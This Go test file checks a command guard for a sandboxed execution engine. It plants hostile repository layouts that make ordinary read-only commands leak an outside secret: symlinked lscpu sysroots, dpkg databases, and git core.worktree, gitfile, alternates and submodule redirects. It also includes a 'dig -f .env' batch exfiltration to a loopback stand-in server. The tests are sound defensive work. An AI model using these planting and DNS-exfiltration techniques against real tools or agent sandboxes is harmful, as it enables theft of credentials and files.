package engine

import (
	"context"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/parism-go/parism/server/config"
)

// Third hostile-repository round: each test plants a project under
// t.TempDir(), shows that the program itself, run directly with the argv
// the guard used to admit, prints a secret from outside the project, and
// then that through the engine (allowed_paths set to the project, default
// readonly allowlist) the secret never reaches the answer. The kernel
// layer is off in the engine (sandbox "off") so that the guard and the
// environment of commands are what is tested: they must hold on their own
// where Landlock is missing (macOS, old kernels).

const redSecret = "RED3-OUTSIDE-SECRET-7f3a"

// redEngine is an engine confined to dir by allowed_paths, with masking
// and the kernel layer off, so that what is tested is the guard and the
// environment.
func redEngine(t *testing.T, dir string) *Engine {
	t.Helper()
	cfg := config.Default()
	cfg.Guard.AllowedPaths = []string{dir}
	cfg.Guard.Sandbox = config.SandboxOff
	cfg.Guard.Secrets.OutputRedactionEnabled = false
	e, err := New(cfg, WithWorkdir(dir))
	if err != nil {
		t.Fatalf("engine.New: %v", err)
	}
	return e
}

// redSetup returns a project directory and a secret file outside it.
func redSetup(t *testing.T) (proj, secretDir, secret string) {
	t.Helper()
	root := t.TempDir()
	proj, secretDir = filepath.Join(root, "proj"), filepath.Join(root, "outside")
	for _, d := range []string{proj, secretDir} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	secret = filepath.Join(secretDir, "creds.txt")
	writeFile(t, secret, redSecret+"\n")
	return proj, secretDir, secret
}

// direct runs a program outside the engine (deadline 20 s) and returns
// its combined output.
func direct(t *testing.T, dir string, env []string, name string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.Dir = dir
	if env != nil {
		cmd.Env = append(os.Environ(), env...)
	}
	out, _ := cmd.CombinedOutput()
	if ctx.Err() != nil {
		t.Fatalf("%s %q did not finish in 20 s", name, args)
	}
	return string(out)
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// runRed runs the request through the engine and fails if the secret
// appears anywhere in the answer; it returns the envelope.
func runRed(t *testing.T, e *Engine, cmd string, args ...string) *Envelope {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	env := e.Run(ctx, Request{Cmd: cmd, Args: args})
	if ctx.Err() != nil {
		t.Fatalf("%s %q: no answer within 30 s", cmd, args)
	}
	if s := mustMarshal(t, env); strings.Contains(s, redSecret) {
		t.Errorf("%s %q printed the outside secret through the engine:\n%s", cmd, args, s)
	}
	return env
}

// wantRefused checks that the guard refused the call with detail.
func wantRefused(t *testing.T, env *Envelope, detail string) {
	t.Helper()
	if env.Failure == nil || env.Failure.Detail != detail {
		t.Errorf("want a guard refusal %q, got %s", detail, mustMarshal(t, env))
	}
}

// TestRedLscpuSysrootLink: lscpu --sysroot DIR reads DIR/proc and DIR/sys
// and follows the links there; it prints each file of
// sys/devices/system/cpu/vulnerabilities as "Vulnerability NAME: first
// line", so a project's sysroot with such a link prints the first line of
// any file.
func TestRedLscpuSysrootLink(t *testing.T) {
	if _, err := exec.LookPath("lscpu"); err != nil {
		t.Skip("lscpu not installed")
	}
	proj, _, secret := redSetup(t)
	root := filepath.Join(proj, "fake")
	cpu := filepath.Join(root, "sys", "devices", "system", "cpu")
	writeFile(t, filepath.Join(root, "proc", "cpuinfo"), "processor\t: 0\nmodel name\t: x\n")
	for _, f := range []string{"possible", "present", "online"} {
		writeFile(t, filepath.Join(cpu, f), "0\n")
	}
	if err := os.MkdirAll(filepath.Join(cpu, "cpu0"), 0o755); err != nil {
		t.Fatal(err)
	}
	symlink(t, secret, filepath.Join(cpu, "vulnerabilities", "spectre_v1"))
	if out := direct(t, proj, nil, "lscpu", "--sysroot", "fake"); !strings.Contains(out, redSecret) {
		t.Fatalf("the planted sysroot should make lscpu print the secret (the leak this test guards against); got %q", out)
	}
	e := redEngine(t, proj)
	for _, args := range [][]string{{"--sysroot", "fake"}, {"--sysroot=fake", "-J"}, {"-Js", "fake"}, {"--sys", "fake"}} {
		wantRefused(t, runRed(t, e, "lscpu", args...), "reads_outside")
	}
	// lscpu alone still runs.
	if env := runRed(t, e, "lscpu"); !env.OK {
		t.Errorf("lscpu: %s", mustMarshal(t, env))
	}
}

// TestRedDpkgAdmindirLink: dpkg-query -L PKG prints the lines of
// ADMINDIR/info/PKG.list, following links: a project database whose
// status file lists an installed package and whose list file links out
// prints the whole outside file (dpkg --root DIR reads DIR/var/lib/dpkg).
func TestRedDpkgAdmindirLink(t *testing.T) {
	if _, err := exec.LookPath("dpkg-query"); err != nil {
		t.Skip("dpkg-query not installed")
	}
	proj, _, secret := redSetup(t)
	plant := func(db string) {
		writeFile(t, filepath.Join(db, "status"), "Package: evil\nStatus: install ok installed\nVersion: 1\n"+
			"Architecture: all\nMaintainer: x <x@example.com>\nDescription: d\n\n")
		writeFile(t, filepath.Join(db, "available"), "")
		if err := os.MkdirAll(filepath.Join(db, "updates"), 0o755); err != nil {
			t.Fatal(err)
		}
		symlink(t, secret, filepath.Join(db, "info", "evil.list"))
	}
	plant(filepath.Join(proj, "db"))
	plant(filepath.Join(proj, "root", "var", "lib", "dpkg"))
	if out := direct(t, proj, nil, "dpkg-query", "--admindir=db", "-L", "evil"); !strings.Contains(out, redSecret) {
		t.Fatalf("the planted database should make dpkg-query print the secret; got %q", out)
	}
	e := redEngine(t, proj)
	for _, c := range [][]string{
		{"dpkg-query", "--admindir=db", "-L", "evil"},
		{"dpkg-query", "--admindir", "db", "-W", "-f", "${db-fsys:Files}", "evil"},
		{"dpkg", "--admindir=db", "-L", "evil"},
		{"dpkg", "--root=root", "-L", "evil"},
		{"dpkg-query", "--instdir", "root", "-L", "evil"},
	} {
		wantRefused(t, runRed(t, e, c[0], c[1:]...), "reads_outside")
	}
	if env := runRed(t, e, "dpkg-query", "-W", "-f", "${Package}\n", "dpkg"); !env.OK {
		t.Errorf("dpkg-query -W dpkg: %s", mustMarshal(t, env))
	}
}

// TestRedLspciDNS: lspci -q (and -Q) asks pci.id.ucw.cz over DNS for the
// devices pci.ids does not name and caches the answers in
// ~/.pciids-cache: network from a command that has no business on it, and
// a file written. The direct run proves the DNS queries when strace is
// there.
func TestRedLspciDNS(t *testing.T) {
	if _, err := exec.LookPath("lspci"); err != nil {
		t.Skip("lspci not installed")
	}
	proj, _, _ := redSetup(t)
	writeFile(t, filepath.Join(proj, "dump"), "00:00.0 Host bridge: x\n00: 34 12 78 56 00 00 00 00 00 00 00 06 00 00 00 00\n")
	if _, err := exec.LookPath("strace"); err == nil {
		out := direct(t, proj, []string{"HOME=" + proj}, "strace", "-f", "-e", "trace=sendto,sendmsg,sendmmsg", "lspci", "-q", "-F", "dump")
		if !strings.Contains(out, "\\3pci\\2id\\3ucw\\2cz") {
			t.Fatalf("lspci -q should send a DNS query for pci.id.ucw.cz; strace: %q", out)
		}
	}
	e := redEngine(t, proj)
	for _, args := range [][]string{{"-q", "-F", "dump"}, {"-Q", "-F", "dump"}, {"-vq", "-F", "dump"}} {
		wantRefused(t, runRed(t, e, "lspci", args...), "network_send")
	}
	if env := runRed(t, e, "lspci", "-F", "dump"); !env.OK {
		t.Errorf("lspci -F dump: %s", mustMarshal(t, env))
	}
	if _, err := os.Stat(filepath.Join(proj, ".pciids-cache")); err == nil {
		t.Errorf("a .pciids-cache was written")
	}
}

// redGit runs git in dir for the test's setup (no global or system
// configuration), failing on error.
func redGit(t *testing.T, dir string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, "git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %q in %s: %v\n%s", args, dir, err, out)
	}
	return string(out)
}

// TestRedGitCoreWorktree: a repository's core.worktree names the
// directory git takes as its work tree, wherever it is. A hostile
// repository records creds.txt in its index and sets core.worktree to
// another directory: git diff then prints that directory's creds.txt
// against the index, git grep searches it, git status lists it. The argv
// is plain "git diff", run in the project. The executor now refuses a
// repository whose core.worktree is not its own work tree (the directory
// whose .git is the repository), absolute or relative (../../outside).
func TestRedGitCoreWorktree(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	for _, form := range []string{"absolute", "relative"} {
		t.Run(form, func(t *testing.T) {
			proj, secretDir, _ := redSetup(t)
			redGit(t, proj, "init", "-q", ".")
			writeFile(t, filepath.Join(proj, "creds.txt"), "placeholder\n")
			redGit(t, proj, "add", "creds.txt")
			if err := os.Remove(filepath.Join(proj, "creds.txt")); err != nil {
				t.Fatal(err)
			}
			wt := secretDir
			if form == "relative" {
				wt = "../../outside" // from proj/.git
			}
			redGit(t, proj, "config", "core.worktree", wt)
			if out := redGit(t, proj, "diff"); !strings.Contains(out, redSecret) {
				t.Fatalf("core.worktree should make git diff print the secret; got %q", out)
			}
			e := redEngine(t, proj)
			for _, args := range [][]string{
				{"diff"}, {"grep", "-e", "RED3"}, {"status", "--porcelain"}, {"ls-files", "-o"},
				{"log", "-p"}, {"--git-dir=.git", "diff"}, {"-C", ".", "diff", "--stat"},
			} {
				env := runRed(t, e, "git", args...)
				if env.OK {
					t.Errorf("git %q ran in a repository whose work tree is elsewhere: %s", args, mustMarshal(t, env))
				}
			}
			// The caller's own --work-tree (path-checked) still works.
			writeFile(t, filepath.Join(proj, "creds.txt"), "placeholder\n")
			if env := runRed(t, e, "git", "--work-tree=.", "status", "--porcelain"); !env.OK {
				t.Errorf("git --work-tree=. status: %s", mustMarshal(t, env))
			}
		})
	}
}

// TestRedGitWorktreeLegit: the layouts where a work tree is not the
// directory holding .git, and that must keep working: a linked worktree
// (.git file naming .git/worktrees/x), a submodule with its git directory
// absorbed under .git/modules (core.worktree=../../../sub), a submodule
// emptied by hand (its core.worktree names a directory without .git), and
// git -C into a subdirectory.
func TestRedGitWorktreeLegit(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	root := t.TempDir()
	proj := filepath.Join(root, "proj")
	lib := filepath.Join(root, "lib")
	for _, d := range []string{proj, lib} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
		redGit(t, d, "init", "-q", ".")
		writeFile(t, filepath.Join(d, "a.txt"), "a\n")
		redGit(t, d, "add", "a.txt")
		redGit(t, d, "commit", "-q", "-m", "one")
	}
	redGit(t, proj, "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "sub")
	redGit(t, proj, "-c", "protocol.file.allow=always", "submodule", "add", "-q", lib, "gone")
	redGit(t, proj, "commit", "-q", "-m", "subs")
	// "gone" emptied by hand: its git directory keeps core.worktree, the
	// directory has no .git any more.
	if err := os.RemoveAll(filepath.Join(proj, "gone")); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(proj, "gone"), 0o755); err != nil {
		t.Fatal(err)
	}
	redGit(t, proj, "worktree", "add", "-q", "wt")
	if err := os.MkdirAll(filepath.Join(proj, "d"), 0o755); err != nil {
		t.Fatal(err)
	}
	for _, m := range []string{"sub", "gone"} {
		if !strings.Contains(redGit(t, proj, "--git-dir=.git/modules/"+m, "config", "core.worktree"), m) {
			t.Fatalf("the submodule's git directory should set core.worktree (the layout this test covers)")
		}
	}
	e := redEngine(t, proj)
	for _, c := range []struct {
		args []string
	}{
		{[]string{"status", "--porcelain"}},
		{[]string{"diff", "--submodule=log"}},
		{[]string{"-C", "sub", "status", "--porcelain"}},
		{[]string{"-C", "sub", "log", "--oneline"}},
		{[]string{"-C", "wt", "status", "--porcelain"}},
		{[]string{"-C", "d", "log", "--oneline"}},
	} {
		if env := runRed(t, e, "git", c.args...); !env.OK {
			t.Errorf("git %q: %s", c.args, mustMarshal(t, env))
		}
	}
}

// TestRedDigBatchFile: dig -f FILE sends each line of FILE as a query
// name to the server the caller names (@host -p port): a project's .env
// leaves the machine without passing through the output, where masking
// could see it. A UDP listener on loopback stands for that server.
func TestRedDigBatchFile(t *testing.T) {
	if _, err := exec.LookPath("dig"); err != nil {
		t.Skip("dig not installed")
	}
	proj, _, _ := redSetup(t)
	writeFile(t, filepath.Join(proj, ".env"), "tok"+redSecret+"\n")
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer pc.Close()
	port := strconv.Itoa(pc.LocalAddr().(*net.UDPAddr).Port)
	got := make(chan string, 16)
	go func() {
		buf := make([]byte, 4096)
		for {
			n, _, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			got <- string(buf[:n])
		}
	}()
	received := func() bool {
		deadline := time.After(3 * time.Second)
		for {
			select {
			case q := <-got:
				if strings.Contains(q, redSecret) {
					return true
				}
			case <-deadline:
				return false
			}
		}
	}
	args := []string{"@127.0.0.1", "-p", port, "-f", ".env", "+tries=1", "+time=1"}
	direct(t, proj, nil, "dig", args...)
	if !received() {
		t.Fatalf("dig %q should send the file's line to the listener (the leak this test guards against)", args)
	}
	e := redEngine(t, proj)
	wantRefused(t, runRed(t, e, "dig", args...), "network_send")
	wantRefused(t, runRed(t, e, "dig", "@127.0.0.1", "-p", port, "-f.env", "+tries=1", "+time=1"), "network_send")
	if received() {
		t.Errorf("the listener got the secret through the engine")
	}
}

// TestRedGitDescribeDirtyWrites: git describe --dirty and git diff
// refresh the index and write .git/index back, whatever GIT_OPTIONAL_LOCKS
// says (git status honours it): readonly calls that change the
// repository.
func TestRedGitDescribeDirtyWrites(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	proj, _, _ := redSetup(t)
	redGit(t, proj, "init", "-q", ".")
	writeFile(t, filepath.Join(proj, "a.txt"), "a\n")
	redGit(t, proj, "add", "a.txt")
	redGit(t, proj, "commit", "-q", "-m", "one")
	index := filepath.Join(proj, ".git", "index")
	bump := 0
	stale := func() time.Time {
		t.Helper()
		old := time.Now().Add(-time.Hour)
		if err := os.Chtimes(index, old, old); err != nil {
			t.Fatal(err)
		}
		// a.txt with a new mtime (whole seconds apart: git may compare
		// seconds only): its stat data in the index is stale.
		bump++
		at := time.Now().Add(time.Duration(bump) * time.Minute)
		if err := os.Chtimes(filepath.Join(proj, "a.txt"), at, at); err != nil {
			t.Fatal(err)
		}
		fi, err := os.Stat(index)
		if err != nil {
			t.Fatal(err)
		}
		return fi.ModTime()
	}
	changed := func(before time.Time) bool {
		fi, err := os.Stat(index)
		return err != nil || !fi.ModTime().Equal(before)
	}
	before := stale()
	direct(t, proj, []string{"GIT_OPTIONAL_LOCKS=0", "GIT_CONFIG_GLOBAL=/dev/null"}, "git", "describe", "--dirty", "--always")
	if !changed(before) {
		t.Fatalf("git describe --dirty should rewrite .git/index (the write this test guards against)")
	}
	e := redEngine(t, proj)
	for _, args := range [][]string{{"describe", "--dirty", "--always"}, {"describe", "--always", "--dirty=-mod"}, {"describe", "--dir", "--always"}} {
		before = stale()
		wantRefused(t, runRed(t, e, "git", args...), "writes_files")
		if changed(before) {
			t.Errorf("git %q wrote .git/index", args)
		}
	}
	// git diff writes the index back too (diff.autoRefreshIndex), which
	// the environment turns off; its answer is the same.
	before = stale()
	direct(t, proj, []string{"GIT_OPTIONAL_LOCKS=0", "GIT_CONFIG_GLOBAL=/dev/null"}, "git", "diff")
	if !changed(before) {
		t.Fatalf("git diff should rewrite .git/index (the write this test guards against)")
	}
	before = stale()
	if env := runRed(t, e, "git", "diff"); !env.OK || raw(t, env) != "" {
		t.Errorf("git diff: %s", mustMarshal(t, env))
	}
	if changed(before) {
		t.Errorf("git diff wrote .git/index")
	}
	before = stale()
	if env := runRed(t, e, "git", "describe", "--broken", "--always"); !env.OK {
		t.Errorf("git describe --broken: %s", mustMarshal(t, env))
	}
	if changed(before) {
		t.Errorf("git describe --broken wrote .git/index")
	}
}

// TestRedGitRepositoryElsewhere: where git reads the repository from is
// not in its argv. A project whose .git is a file naming another
// repository's git directory, whose .git/commondir names one, or whose
// objects/info/alternates name another's objects makes a plain git log -p
// (or git show REV:file) print that repository's files. The engine
// checks those directories against allowed_paths.
func TestRedGitRepositoryElsewhere(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	proj, secretDir, _ := redSetup(t)
	other := filepath.Join(secretDir, "repo")
	if err := os.MkdirAll(other, 0o755); err != nil {
		t.Fatal(err)
	}
	redGit(t, other, "init", "-q", ".")
	writeFile(t, filepath.Join(other, "creds.txt"), redSecret+"\n")
	redGit(t, other, "add", "creds.txt")
	redGit(t, other, "commit", "-q", "-m", "secret")
	head := strings.TrimSpace(redGit(t, other, "rev-parse", "HEAD"))
	otherGit := filepath.Join(other, ".git")
	layouts := map[string]func(dir string){
		"gitfile": func(dir string) { writeFile(t, filepath.Join(dir, ".git"), "gitdir: "+otherGit+"\n") },
		"commondir": func(dir string) {
			g := filepath.Join(dir, ".git")
			writeFile(t, filepath.Join(g, "HEAD"), head+"\n")
			writeFile(t, filepath.Join(g, "commondir"), otherGit+"\n")
		},
		"alternates": func(dir string) {
			redGit(t, dir, "init", "-q", ".")
			writeFile(t, filepath.Join(dir, ".git", "objects", "info", "alternates"), filepath.Join(otherGit, "objects")+"\n")
		},
	}
	for name, plant := range layouts {
		t.Run(name, func(t *testing.T) {
			dir := filepath.Join(proj, name)
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			plant(dir)
			args := []string{"-C", name, "show", head + ":creds.txt"}
			if out := direct(t, proj, []string{"GIT_CONFIG_GLOBAL=/dev/null"}, "git", args...); !strings.Contains(out, redSecret) {
				t.Fatalf("git %q should print the other repository's file (the leak this test guards against); got %q", args, out)
			}
			e := redEngine(t, proj)
			for _, a := range [][]string{args, {"-C", name, "log", "-p", head}, {"-C", name, "cat-file", "-p", head + ":creds.txt"}} {
				wantRefused(t, runRed(t, e, "git", a...), "reads_outside")
			}
		})
	}
	// A repository of the project's own still works, and so does an
	// alternates file naming objects inside the allowed paths.
	own := filepath.Join(proj, "own")
	if err := os.MkdirAll(own, 0o755); err != nil {
		t.Fatal(err)
	}
	redGit(t, own, "init", "-q", ".")
	writeFile(t, filepath.Join(own, "a.txt"), "a\n")
	redGit(t, own, "add", "a.txt")
	redGit(t, own, "commit", "-q", "-m", "one")
	writeFile(t, filepath.Join(proj, "alternates", ".git", "objects", "info", "alternates"), filepath.Join(own, ".git", "objects")+"\n")
	e := redEngine(t, proj)
	for _, a := range [][]string{{"-C", "own", "log", "--oneline"}, {"-C", "alternates", "status", "--porcelain"}} {
		if env := runRed(t, e, "git", a...); !env.OK {
			t.Errorf("git %q: %s", a, mustMarshal(t, env))
		}
	}
}

// TestRedGitSubmoduleElsewhere: a submodule whose .git file names a
// repository outside the project: git grep --recurse-submodules --cached
// searched that repository's index and objects, and printed its files.
func TestRedGitSubmoduleElsewhere(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	proj, secretDir, _ := redSetup(t)
	other := filepath.Join(secretDir, "repo")
	if err := os.MkdirAll(other, 0o755); err != nil {
		t.Fatal(err)
	}
	redGit(t, other, "init", "-q", ".")
	writeFile(t, filepath.Join(other, "s.txt"), redSecret+"\n")
	redGit(t, other, "add", "s.txt")
	redGit(t, other, "commit", "-q", "-m", "secret")
	redGit(t, proj, "init", "-q", ".")
	redGit(t, proj, "-c", "protocol.file.allow=always", "submodule", "add", "-q", other, "sub")
	redGit(t, proj, "commit", "-q", "-m", "sub")
	if err := os.RemoveAll(filepath.Join(proj, "sub")); err != nil {
		t.Fatal(err)
	}
	if err := os.RemoveAll(filepath.Join(proj, ".git", "modules")); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(proj, "sub", ".git"), "gitdir: "+filepath.Join(other, ".git")+"\n")
	args := []string{"grep", "--recurse-submodules", "--cached", "-e", "RED3"}
	if out := direct(t, proj, []string{"GIT_CONFIG_GLOBAL=/dev/null"}, "git", args...); !strings.Contains(out, redSecret) {
		t.Fatalf("git %q should print the outside repository's file (the leak this test guards against); got %q", args, out)
	}
	e := redEngine(t, proj)
	for i := 0; i < 2; i++ { // the second call is answered from the cache
		wantRefused(t, runRed(t, e, "git", args...), "reads_outside")
	}
	wantRefused(t, runRed(t, e, "git", "status", "--porcelain"), "reads_outside")
}

// TestRedAptShowDebFile: apt show takes a path to a .deb (or .dsc,
// .changes) file for a package name and prints its control data: a read
// the guard, reading package names as text, did not path-check.
func TestRedAptShowDebFile(t *testing.T) {
	for _, p := range []string{"apt", "dpkg-deb"} {
		if _, err := exec.LookPath(p); err != nil {
			t.Skip(p + " not installed")
		}
	}
	proj, secretDir, _ := redSetup(t)
	pkg := filepath.Join(secretDir, "pkg")
	writeFile(t, filepath.Join(pkg, "DEBIAN", "control"), "Package: redpkg\nVersion: 1\nArchitecture: all\n"+
		"Maintainer: x <x@example.com>\nDescription: "+redSecret+"\n")
	deb := filepath.Join(secretDir, "red.deb")
	direct(t, secretDir, nil, "dpkg-deb", "-b", pkg, deb)
	if out := direct(t, proj, nil, "apt", "show", deb); !strings.Contains(out, redSecret) {
		t.Fatalf("apt show FILE.deb should print the file's control data (the read this test guards against); got %q", out)
	}
	e := redEngine(t, proj)
	for _, args := range [][]string{{"show", deb}, {"show", "-a", "../outside/red.deb"}, {"depends", deb}, {"policy", deb}} {
		wantRefused(t, runRed(t, e, "apt", args...), "reads_outside")
	}
}

// TestRedDpkgUnderKernelLayer: dpkg and dpkg-query, readonly and in the
// default allowlist, answer under the kernel layer too: they read the
// package database (/var/lib/dpkg) and dpkg runs dpkg-query, which the
// per-command table must grant (without it dpkg -l failed with
// "unable to execute dpkg-query: Permission denied").
func TestRedDpkgUnderKernelLayer(t *testing.T) {
	if _, err := exec.LookPath("dpkg-query"); err != nil {
		t.Skip("dpkg-query not installed")
	}
	if _, err := os.Stat("/var/lib/dpkg/status"); err != nil {
		t.Skip("no dpkg database")
	}
	dir := t.TempDir()
	cfg := config.Default()
	cfg.Guard.AllowedPaths = []string{dir}
	e, err := New(cfg, WithWorkdir(dir))
	if err != nil {
		t.Fatal(err)
	}
	if !e.Sandbox().Enforced {
		t.Skip("kernel layer not enforced here: " + e.Sandbox().Reason)
	}
	for _, c := range [][]string{{"dpkg", "-l", "dpkg"}, {"dpkg-query", "-l", "dpkg"}} {
		env := runRed(t, e, c[0], c[1:]...)
		if !env.OK || !strings.Contains(raw(t, env), "dpkg") {
			t.Errorf("%q under the kernel layer: %s", c, mustMarshal(t, env))
		}
	}
}
